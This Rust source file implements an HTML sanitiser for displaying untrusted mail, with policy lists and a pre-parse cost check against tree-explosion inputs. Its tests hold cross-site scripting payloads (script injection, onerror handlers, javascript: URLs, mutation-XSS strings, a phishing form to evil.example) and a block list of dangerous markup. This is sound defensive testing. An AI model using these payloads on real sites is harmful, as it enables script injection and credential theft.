//! HTML that strangers wrote, made fit to be shown (A85).
//!
//! ammonia does it, on html5ever's tree; what is here is what mail may keep, and a look at the document beforehand. The
//! tree of a hostile document can grow with the square of its octets: elements of formatting that stay open are made
//! anew in every paragraph. Such a document is shown as its text.

use crate::parse::limits;
use html5gum::Tokenizer;
use html5gum::emitters::callback::{CallbackEmitter, CallbackEvent};
use std::borrow::Cow;
use std::collections::BTreeMap;
use std::convert::Infallible;

/// A picture that a document asks for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Picture<'a> {
    /// A part of the same message, by its Content-ID (RFC 2392).
    Part(&'a str),
    /// Somewhere on the web. Who fetches it tells the sender that the mail was read, when and where.
    Remote(&'a str),
}

/// A document that can be shown.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Sanitised {
    /// A fragment of HTML, for inside a `body`.
    pub html: String,
    /// Whether the layout is kept. Otherwise the document was too large or too tangled, and this is its text.
    pub whole: bool,
    /// Pictures that were left out.
    pub blocked: usize,
}

/// Makes a document harmless: no scripts, forms, frames, event handlers or style sheets; links lead to the web and mail
/// alone, open elsewhere and tell nothing; styles are colours, fonts and boxes that stay in their place. `picture` says
/// under which URL a picture can be had; one without is left out.
pub fn sanitised(html: &str, picture: impl Fn(Picture<'_>) -> Option<String>) -> Sanitised {
    let survey = Survey::of(html);
    let (mut urls, mut blocked) = (BTreeMap::new(), 0);
    for source in &survey.pictures {
        let asked = match strip_scheme(source, "cid:") {
            Some(id) => Picture::Part(id),
            None => Picture::Remote(source),
        };
        match picture(asked) {
            Some(url) => drop(urls.insert(source.clone(), url)),
            None => blocked += 1,
        }
    }
    if survey.cost <= limits::SANITISED_COST && html.len() <= limits::SANITISED_OCTETS {
        // The libraries read what strangers wrote; whatever they do, the mail must be shown.
        let clean = std::panic::catch_unwind(|| policy(urls).clean(html).to_string());
        if let Ok(html) = clean {
            return Sanitised { html, whole: true, blocked };
        }
    }
    let text = crate::parse::html::strip(&html[..html.floor_char_boundary(limits::HTML_OCTETS)]);
    Sanitised { html: format!("<pre>{}</pre>", escaped(&text)), whole: false, blocked }
}

fn strip_scheme<'a>(url: &'a str, scheme: &str) -> Option<&'a str> {
    let url = url.trim();
    url.get(..scheme.len()).filter(|s| s.eq_ignore_ascii_case(scheme)).map(|_| &url[scheme.len()..])
}

fn escaped(text: &str) -> String {
    text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;")
}

/// Elements that are left out with all they hold.
const GONE: [&str; 17] = [
    "script", "style", "title", "template", "noscript", "iframe", "frameset", "svg", "math", "textarea", "select", "object",
    "embed", "applet", "noembed", "noframes", "xml",
];

/// Properties of styles that change nothing but how a text looks in its place: no position, no URL, no negative margin.
const STYLES: [&str; 30] = [
    "background-color",
    "border",
    "border-bottom",
    "border-collapse",
    "border-color",
    "border-left",
    "border-right",
    "border-spacing",
    "border-style",
    "border-top",
    "border-width",
    "color",
    "direction",
    "display",
    "font-family",
    "font-size",
    "font-style",
    "font-weight",
    "line-height",
    "list-style-type",
    "padding",
    "padding-bottom",
    "padding-left",
    "padding-right",
    "padding-top",
    "text-align",
    "text-decoration",
    "vertical-align",
    "white-space",
    "width",
];

/// Where links may lead.
const LINKS: [&str; 4] = ["http:", "https:", "mailto:", "tel:"];

/// What makes a style more than looks.
const FUNCTIONS: [&str; 6] = ["url", "expression", "behavior", "binding", "\\", "@"];

fn policy(urls: BTreeMap<String, String>) -> ammonia::Builder<'static> {
    let mut policy = ammonia::Builder::default();
    policy
        .add_tags(["font"])
        .rm_tags(["map", "area"])
        .clean_content_tags(GONE.into_iter().collect())
        .add_generic_attributes(["style", "dir", "align", "valign", "width", "height", "bgcolor"])
        .add_tag_attributes("font", ["color", "size", "face"])
        .add_tag_attributes("table", ["border", "cellpadding", "cellspacing"])
        .filter_style_properties(STYLES.into_iter().collect())
        .url_schemes(["http", "https", "mailto", "tel", "cid"].into_iter().collect())
        // What `picture` answers may be relative; other relative URLs are taken out below.
        .url_relative(ammonia::UrlRelative::PassThrough)
        .link_rel(Some("noopener noreferrer nofollow"))
        .set_tag_attribute_value("a", "target", "_blank")
        .attribute_filter(move |element, attribute, value| match (element, attribute) {
            ("img", "src") => urls.get(value).map(|url| Cow::Owned(url.clone())),
            (_, "href" | "cite" | "src") if !LINKS.iter().any(|l| strip_scheme(value, l).is_some()) => None,
            (_, "style") if FUNCTIONS.iter().any(|f| value.to_ascii_lowercase().contains(f)) => None,
            _ => Some(Cow::Borrowed(value)),
        });
    policy
}

/// A look at a document before a tree is made of it.
#[derive(Debug, Default)]
struct Survey {
    /// `src` of its pictures, each once.
    pictures: Vec<String>,
    /// Elements that the tree will have, at most; beyond what can be laid out, a number that is too large.
    cost: usize,
    depth: usize,
    /// Elements of formatting that are open, by their place in [`FORMATTING`].
    formatting: [usize; FORMATTING.len()],
    tag: Vec<u8>,
    is_source: bool,
}

/// Elements that html5ever makes anew in each block until they are closed.
const FORMATTING: [&[u8]; 14] =
    [b"a", b"b", b"big", b"code", b"em", b"font", b"i", b"nobr", b"s", b"small", b"strike", b"strong", b"tt", b"u"];

impl Survey {
    fn of(html: &str) -> Survey {
        let mut survey = Survey::default();
        let mut emitter = CallbackEmitter::new(|event: CallbackEvent<'_>, _: html5gum::Span<()>| -> Option<Infallible> {
            survey.see(&event);
            None
        });
        emitter.naively_switch_states(true);
        let Ok(()) = Tokenizer::new_with_emitter(html, emitter).finish();
        survey
    }

    fn see(&mut self, event: &CallbackEvent<'_>) {
        match event {
            CallbackEvent::OpenStartTag { name } => {
                self.tag.clear();
                self.tag.extend_from_slice(name);
            }
            CallbackEvent::AttributeName { name } => {
                self.cost += 1;
                self.is_source = *name == b"src" && self.tag == b"img";
            }
            CallbackEvent::AttributeValue { value } if self.is_source && self.pictures.len() < limits::PARTS => {
                let source = String::from_utf8_lossy(value).into_owned();
                if !self.pictures.contains(&source) {
                    self.pictures.push(source);
                }
            }
            CallbackEvent::CloseStartTag { .. } => self.start(),
            CallbackEvent::EndTag { name } => self.end(name),
            _ => {}
        }
    }

    fn start(&mut self) {
        let tag = self.tag.as_slice();
        match FORMATTING.iter().position(|f| *f == tag) {
            Some(place) => self.formatting[place] += 1,
            None if tag == b"span" => {}
            None => self.cost += self.formatting.iter().sum::<usize>(),
        }
        self.cost += 1;
        if !matches!(tag, b"br" | b"img" | b"hr" | b"meta" | b"link" | b"input" | b"col" | b"p" | b"li" | b"td" | b"tr" | b"o:p")
        {
            self.depth += 1;
            if self.depth > limits::HTML_DEPTH {
                self.cost = self.cost.saturating_add(limits::SANITISED_COST);
            }
        }
    }

    fn end(&mut self, name: &[u8]) {
        self.cost += 1;
        match FORMATTING.iter().position(|f| *f == name) {
            Some(place) => self.formatting[place] = self.formatting[place].saturating_sub(1),
            None => self.cost += self.formatting.iter().sum::<usize>(),
        }
        if !matches!(name, b"p" | b"li" | b"td" | b"tr" | b"o:p") {
            self.depth = self.depth.saturating_sub(1);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn clean(html: &str) -> String {
        let mapped = sanitised(html, |p| (p == Picture::Part("logo@x")).then(|| "/mail/7/2".to_owned()));
        assert!(mapped.whole, "{html}");
        mapped.html
    }

    #[test]
    fn a85_nothing_that_acts_is_left() {
        for html in [
            "<script>alert(1)</script>",
            "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<img src=x onerror=alert(1)>",
            "<img src=\"javascript:alert(1)\">",
            "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"java\tscript:alert(1)\">x</a>",
            "<a href=\"&#106;avascript:alert(1)\">x</a>",
            "<a href=\" vbscript:alert(1)\">x</a>",
            "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
            "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
            "<svg onload=alert(1)><script>alert(1)</script></svg>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
            "<iframe src=https://evil.example></iframe><object data=x></object><embed src=x><applet code=x></applet>",
            "<form action=https://evil.example><input name=password><button>x</button></form>",
            "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
            "<base href=https://evil.example/><link rel=stylesheet href=https://evil.example/x.css>",
            "<style>@import 'https://evil.example'</style>",
            "<div style=\"position:fixed;top:0;left:0;background:url(https://evil.example/x)\">x</div>",
            "<div style=\"width:expression(alert(1))\">x</div>",
            "<div style=\"color:red;background-color:u\\72l(javascript:alert(1))\">x</div>",
            "<body onload=alert(1) background=\"javascript:alert(1)\">x</body>",
            "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
            "<a href=x onclick=alert(1) style=\"margin-top:-900px\">x</a>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<template><img src=x onerror=alert(1)></template><xmp><img src=x onerror=alert(1)></xmp>",
            "<details open ontoggle=alert(1)>x</details>",
            "<video src=x onerror=alert(1)><audio src=x onerror=alert(1)>",
            "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
            "<p id=token class=admin name=x>x</p>",
        ] {
            let clean = clean(html).to_ascii_lowercase();
            // What is left of an attack may be text; nothing of it may stand inside a tag.
            let tags: String =
                clean.split('<').skip(1).map(|t| t.split('>').next().unwrap_or_default()).collect::<Vec<_>>().join("\n");
            for evil in [
                "script",
                "onerror",
                "onload",
                "onclick",
                "ontoggle",
                "alert",
                "evil.example",
                "position",
                "url(",
                "expression",
                "data:",
                "form",
                "iframe",
                "object",
                "embed",
                "meta",
                "base",
                "link",
                "style>",
                "svg",
                "math",
                "margin",
                "background=",
                "id=",
                "class=",
                "name=",
            ] {
                assert!(!tags.contains(evil), "{html}\n{clean}");
            }
        }
    }

    #[test]
    fn a85_what_a_mail_looks_like_stays() {
        let html = "<p style=\"color: #ff0000; position: fixed\">Hello <b>Anna</b> &amp; <a href=\"https://example.org/?a=1&amp;b=2\">all</a></p>\
                    <table><tr><td align=\"right\">1</td></tr></table>";
        let clean = clean(html);
        assert!(clean.contains("<p style=\"color:#ff0000\">") || clean.contains("<p style=\"color: #ff0000\">"), "{clean}");
        assert!(clean.contains("<b>Anna</b> &amp; <a href=\"https://example.org/?a=1&amp;b=2\""), "{clean}");
        assert!(clean.contains("rel=\"noopener noreferrer nofollow\"") && clean.contains("target=\"_blank\""), "{clean}");
        assert!(clean.contains("<td align=\"right\">1</td>"), "{clean}");
    }

    #[test]
    fn a139_pictures_are_parts_of_the_message_or_asked_for() {
        let html = "<img src=\"cid:logo@x\" alt=Logo><img src=\"CID:none\"><img src=\"https://tracker.example/o.gif\" width=1><a href=\"cid:logo@x\">x</a>";
        let result = sanitised(html, |p| (p == Picture::Part("logo@x")).then(|| "/mail/7/2".to_owned()));
        assert_eq!(result.blocked, 2);
        assert!(result.html.contains("<img src=\"/mail/7/2\" alt=\"Logo\">"), "{}", result.html);
        assert!(!result.html.contains("tracker") && !result.html.to_lowercase().contains("cid:"), "{}", result.html);
        let proxied = sanitised(html, |p| matches!(p, Picture::Remote(_)).then(|| "/proxy".to_owned()));
        assert!(proxied.html.contains("src=\"/proxy\""), "{}", proxied.html);
    }

    #[test]
    fn a86_hostile_documents_are_shown_as_text() {
        for html in [
            "<div>".repeat(100_000) + "deep &lt;b>",
            "<b>".repeat(600) + &"<p>x".repeat(40_000),
            "<i a=1><u b=2>".repeat(50_000) + "x",
            "<table>".repeat(100_000) + "x",
            "<p>x</p>".repeat(400_000),
            "<a href=x>".repeat(20_000) + &"<p>".repeat(20_000) + "x",
        ] {
            let result = sanitised(&html, |_| None);
            assert!(!result.whole && result.html.starts_with("<pre>") && !result.html[5..].starts_with('<'), "{}", &html[..30]);
        }
        assert_eq!(sanitised(&("<div>".repeat(1_000) + "a &lt;b> c"), |_| None).html, "<pre>a &lt;b&gt; c\n</pre>");
    }
}
